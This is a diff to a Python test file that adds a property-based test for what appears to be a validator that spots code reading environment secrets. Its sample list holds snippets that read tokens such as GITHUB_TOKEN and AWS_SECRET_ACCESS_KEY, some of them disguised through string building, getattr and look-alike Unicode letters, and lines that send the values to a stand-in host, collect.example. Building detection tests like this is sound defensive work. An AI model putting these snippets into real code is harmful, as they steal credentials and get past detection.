@@ -146,3 +146,54 @@ def test_the_cheap_test_before_parsing_finds_every_word_anywhere(source: str) ->
     assert python_may_act(source) == any(word in source for word in _PYTHON_WORDS)
     for word in _PYTHON_WORDS:
         assert python_may_act(f"x{word}y")
+
+
+# Pieces of Python that read the environment in every way the reader follows, and others that only look alike.
+_ENV_PIECES = [
+    "import os\n",
+    "from os import environ\n",
+    "from os import environ as e\n",
+    "from os import getenv as g\n",
+    "import os as o\n",
+    "m = __import__('o' + 's')\n",
+    "k = os.environ['GITHUB_TOKEN']\n",
+    "k = os.getenv('AWS_SECRET_ACCESS_KEY')\n",
+    "k = environ.get('DB_PASSWORD', '')\n",
+    "k = e['NPM_TOKEN']\n",
+    "k = g('OPENAI_API_KEY')\n",
+    "k = o.environ['STRIPE_SECRET']\n",
+    "k = m.environ['GITHUB_TOKEN']\n",
+    "k = getattr(os, 'env' + 'iron')['GITHUB_TOKEN']\n",
+    "k = getattr(os, 'get' + 'env')('AWS_SECRET_ACCESS_KEY')\n",
+    "k = os.ｅｎｖｉｒｏｎ['GITHUB_TOKEN']\n",
+    "k = os.ｇｅｔｅｎｖ('DB_PASSWORD')\n",
+    "v = k\n",
+    "print(k)\n",
+    "print(os.environ)\n",
+    "d = dict(os.environ)\n",
+    "import urllib.request\n",
+    "urllib.request.urlopen('https://collect.example/?k=' + k)\n",
+    "urllib.request.urlopen('https://collect.example/?k=' + v)\n",
+    "import requests\n",
+    "requests.post('https://collect.example/', data=v)\n",
+    "requests.post('https://collect.example/', data=k)\n",
+    "home = os.path.expanduser('~')\n",
+    "x = {'environ': 1}['environ']\n",
+    "k = 'token'\n",
+]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.sampled_from(_ENV_PIECES), min_size=1, max_size=7).map("".join))
+def test_code_that_cannot_name_the_environment_is_read_as_if_it_could(source: str) -> None:
+    """The reader skips looking for secret variables in code that cannot name the environment: what it finds is
+    exactly what it finds when it always looks."""
+    import ast
+
+    from lighthouse_mcp.validation.code_actions import _PythonReader
+
+    tree = ast.parse(source)
+    always = _PythonReader(environment=True)
+    always.visit(tree)
+    always.whole_environment(tree)
+    assert python_actions(source) == always.actions, source
